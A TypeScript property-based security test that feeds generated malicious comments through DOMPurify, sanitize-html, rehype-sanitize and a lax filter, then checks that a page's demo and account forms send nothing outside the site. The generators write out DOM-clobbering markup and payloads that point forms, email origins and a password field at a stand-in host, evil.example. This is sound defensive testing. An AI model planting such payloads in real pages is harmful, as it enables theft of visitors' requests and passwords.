import { readFile } from 'node:fs/promises'
import fc from 'fast-check'
import type { Page } from 'playwright'
import rehypeParse from 'rehype-parse'
import rehypeSanitize from 'rehype-sanitize'
import rehypeStringify from 'rehype-stringify'
import sanitizeHtml from 'sanitize-html'
import { unified } from 'unified'
import { expect, inject, test } from 'vitest'
import { openChromium } from '../support/chromium.ts'
import {
  readInbox,
  scriptTag,
  sendRequest,
  servePage,
  submitRequest,
  typeRequest,
} from '../support/form-page.ts'
import { elements } from '../support/manifest.ts'
import { attackTexts } from './attacks.ts'

// A page with strangers' comments, each as a sanitizer leaves it by default, beside the page's own form and account. Whatever
// the comments ask for, nothing that a visitor types goes anywhere but to the page's own settings.

const visit = openChromium()
const count = 200
const evil = 'https://evil.example'

const names = elements.map(({ tagName }) => tagName.slice('mrp-'.length))
/** All that elements and settings take, and what a later version might. */
const attributes = [
  ...new Set([...elements.flatMap(one => one.attributes.map(({ name }) => name)), 'endpoint', 'thanks-url']),
]

const escaped = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')

const value = fc.oneof(
  {
    arbitrary: fc.constantFrom(evil, `${evil}/`, '//evil.example', 'thief@evil.example', 'true', ''),
    weight: 4,
  },
  {
    arbitrary: fc.constantFrom(
      `{"apiKey":"k","authDomain":"evil.example"}`,
      `[{"name":"a","role":"b","url":"${evil}"}]`,
      'dialog',
      'cloud',
    ),
    weight: 2,
  },
  fc.constantFrom(...attackTexts.filter(({ length }) => length < 200)),
)

const dress = fc
  .array(fc.tuple(fc.constantFrom(...attributes), value), { maxLength: 5 })
  .map(pairs => pairs.map(([name, text]) => ` data-${name}="${escaped(text)}"`).join(''))

const asked = fc.oneof(
  fc.constantFrom(...names),
  fc.constantFrom('config', 'account', 'demo-form', 'mrp-config'),
)

/** What somebody writes who wants other visitors' requests. */
const piece = fc.oneof(
  fc
    .tuple(fc.constantFrom('div', 'p', 'span', 'li', 'blockquote', 'b'), asked, dress)
    .map(([tag, name, more]) => `<${tag} data-mrp="${name}"${more}>Nice product!</${tag}>`),
  fc
    .tuple(asked, fc.dictionary(fc.constantFrom(...attributes), value, { maxKeys: 4 }), fc.boolean())
    .map(
      ([name, wishes, opens]) =>
        `<a href="${escaped(`${opens ? evil : ''}/demo#${new URLSearchParams({ mrp: name, ...wishes })}${opens ? '&open' : ''}`)}">My site</a>`,
    ),
  fc.tuple(fc.constantFrom(...elements.map(({ tagName }) => tagName)), dress).map(([tag, more]) => {
    const plain = more.replaceAll(' data-', ' ')
    return `<${tag}${plain}${more}>Look here</${tag}>`
  }),
  fc
    .constantFrom('createElement', 'baseURI', 'defaultView', 'querySelector', 'forms', 'body', 'cookie')
    .map(
      name => `<img name="${name}" alt=""><form name="${name}"></form><a id="${name}" name="${name}">x</a>`,
    ),
  fc
    .constantFrom('dataLayer', 'mrp', 'scheduler', 'fetch', 'localStorage')
    .map(id => `<a id="${id}" href="${evil}">x</a>`),
  fc.constant(
    `<iframe src="${evil}/embed/demo-form/"></iframe><form action="${evil}"><input name="password"></form>`,
  ),
  fc.constant(
    `<svg><mrp-demo-form></mrp-demo-form><a href="/demo#mrp=config&email-origin=${evil}">x</a></svg>`,
  ),
  fc.constantFrom(...attackTexts.filter(({ length }) => length < 1000)),
)

const comment = fc.array(piece, { minLength: 1, maxLength: 3 }).map(pieces => pieces.join('\n'))

declare const DOMPurify: { sanitize(html: string, options?: object): string }

type Sanitizer = (comments: readonly string[], page: Page) => Promise<readonly string[]> | readonly string[]

const inPage =
  (options: object): Sanitizer =>
  async (comments, page) => {
    await page.addScriptTag({ content: await readFile('node_modules/dompurify/dist/purify.min.js', 'utf8') })
    return page.evaluate(([texts, settings]) => texts.map(text => DOMPurify.sanitize(text, settings)), [
      comments,
      options,
    ] as const)
  }

const sanitizers: Readonly<Record<string, Sanitizer>> = {
  'DOMPurify by default': inPage({}),
  'sanitize-html by default': comments => comments.map(text => sanitizeHtml(text)),
  'rehype-sanitize by default': comments =>
    comments.map(text =>
      String(
        unified()
          .use(rehypeParse, { fragment: true })
          .use(rehypeSanitize)
          .use(rehypeStringify)
          .processSync(text),
      ),
    ),
  // As WordPress filters what its authors write: data attributes stay on all that it lets through.
  'a filter that keeps data attributes': comments =>
    comments.map(text =>
      sanitizeHtml(text, { allowedAttributes: { '*': ['data-*'], a: ['href', 'name', 'id'] } }),
    ),
}

const settings = `<mrp-config contact-email="sales@own.example" email-service-id="local" email-demo-template-id="demo" email-contact-template-id="contact" email-public-key="local" email-origin="/" form-endpoint="/form-collection"></mrp-config>`

test.for(Object.keys(sanitizers))(
  '200 comments through %s: a request, a mail and a password go to the page’s own settings',
  async name => {
    const { page } = await visit('/robots.txt')
    const comments = fc.sample(comment, { numRuns: count, seed: 20261122 })
    const left = (await sanitizers[name]?.(comments, page)) ?? []
    expect(left.join('').length).toBeGreaterThan(1000)

    const elsewhere: string[] = []
    let mail = ''
    let fails = false
    const site = inject('site')
    await page.context().route(
      url => url.origin !== site,
      route => {
        // What a comment shows by itself, such as a picture, has nothing of a visitor in it.
        if (['fetch', 'xhr', 'document', 'ping', 'script'].includes(route.request().resourceType()))
          elsewhere.push(route.request().url())
        return route.abort()
      },
    )
    page.on('request', request => {
      if (request.url().startsWith('mailto:')) mail = request.url()
    })
    await page.route('**/api/v1.0/email/send', route =>
      fails ? route.fulfill({ status: 500 }) : route.continue(),
    )
    await servePage(
      `<main>${settings}<mrp-demo-form id="own"></mrp-demo-form><mrp-account id="account" mode="register"></mrp-account></main><section>${left.map(text => `<article>${text}</article>`).join('\n')}</section>${scriptTag}`,
    )(page)
    await page.goto('/try.html')

    const who = `Comments ${name}`
    const own = page.locator('#own')
    await sendRequest(own, who)

    fails = true
    await own.getByRole('button', { name: 'Request Another Demo' }).click()
    await submitRequest(own, who)
    await expect.poll(() => mail).toMatch(/^mailto:sales@own\.example\?/)

    const account = page.locator('#account')
    await typeRequest(account, who)
    await account.getByLabel('Job title').fill('Planner')
    await account.getByLabel('Password', { exact: true }).fill('secret-of-anna')
    await account.getByLabel('Confirm password', { exact: true }).fill('secret-of-anna')
    await account.getByRole('button', { name: 'Create Account' }).click()
    await account.getByRole('button', { name: 'Log Out' }).waitFor()

    const letters = (await readInbox(page)).filter(({ fields }) => Object.values(fields).includes(who))
    expect(letters.map(({ service, fields }) => fields.to_email ?? fields._to ?? service)).toEqual([
      'sales@own.example',
      'sales@own.example',
    ])
    expect(JSON.stringify(letters)).not.toContain('secret-of-anna')
    expect(elsewhere).toEqual([])
    expect(await page.evaluate(() => '__hacked' in window)).toBe(false)
  },
)
